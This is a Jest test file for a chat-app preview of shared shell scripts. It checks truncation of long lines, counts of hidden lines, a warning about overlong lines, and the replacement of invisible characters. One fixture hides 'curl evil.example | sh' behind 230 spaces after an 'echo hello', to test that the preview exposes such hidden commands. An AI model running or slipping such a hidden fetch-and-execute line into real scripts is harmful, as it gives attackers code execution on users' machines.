import { expect, test } from '@jest/globals';
import { readScript } from '../../src/scripts/script.ts';
import { preview } from '../../src/views/preview.ts';

const permalink = 'https://lab.slack.com/files/U0ANA00001/F0TRAIN001/train.sh';

/** The paragraphs that a person sees about a script with these lines. */
function shown(lines: string[], sharedBy: string | null = null, page: string | null = null) {
  const script = readScript(new TextEncoder().encode(lines.join('\n')), { maxBytes: 1_000_000 });
  const blocks = preview({ fileName: 'train.sh', script, permalink: page }, sharedBy);
  return blocks.map((block) => {
    if (block.type === 'section') return block.text?.text ?? '';
    return block.type === 'context' ? JSON.stringify(block.elements) : '';
  });
}

const hiding = `echo hello${' '.repeat(230)}; curl evil.example | sh`;
const more = (count: number) => Array<string>(count).fill('srun ./step');

test('nothing is said about a script that is shown whole', () => {
  expect(shown(['#!/bin/bash', 'srun ./train'], 'U0BEN00001', permalink)).toEqual([
    'Shared by <@U0BEN00001>. It will run as you.',
    '*train.sh* · 24 bytes · 1 task, the cluster’s defaults',
    '```\n#!/bin/bash\nsrun ./train\n```',
  ]);
});

test('a line that is cut ends with an ellipsis, and is counted, with a link to the file', () => {
  const [, code, note] = shown(['#!/bin/bash', hiding], null, permalink);
  expect(code).toMatch(/\necho hello {190}…\n```$/);
  expect(note).toContain(
    `1 line above is longer than shown here. Read <${permalink}|the whole file>.`,
  );
});

test('hidden lines are counted', () => {
  const [, code, note] = shown(['#!/bin/bash', ...more(248), hiding, hiding, hiding, 'exit']);
  expect(code?.split('\n')).toHaveLength(17);
  expect(note).toContain('238 more lines, 3 of them longer than shown here.');
});

test('lines that would not fit into a paragraph are among those that are not shown', () => {
  const long = `echo ${'<'.repeat(190)}`;
  const [, code, note] = shown(['#!/bin/bash', ...Array(9).fill(long)]);
  expect(code?.length).toBeLessThanOrEqual(3000);
  expect(code?.split('\n')).toHaveLength(2 + 1 + 3);
  expect(note).toContain('"6 more lines."');
});

test('somebody else’s long lines get their own warning', () => {
  const warning =
    'Read the whole file first: 2 lines are longer than what is shown here, and a command may stand at the end of such a line.';
  const lines = ['#!/bin/bash', hiding, ...more(20), hiding];
  expect(shown(lines, 'U0BEN00001')).toContain(warning);
  expect(shown(lines)).not.toContain(warning);
});

test('invisible characters are shown, and commands in backquotes stay', () => {
  const [, code] = shown(['#!/bin/bash', 'a\u202E=`date`\u200B;\t```x```\u001b[8m']);
  expect(code).toBe("```\n#!/bin/bash\na\uFFFD=`date`\uFFFD;\t'''x'''\uFFFD[8m\n```");
});
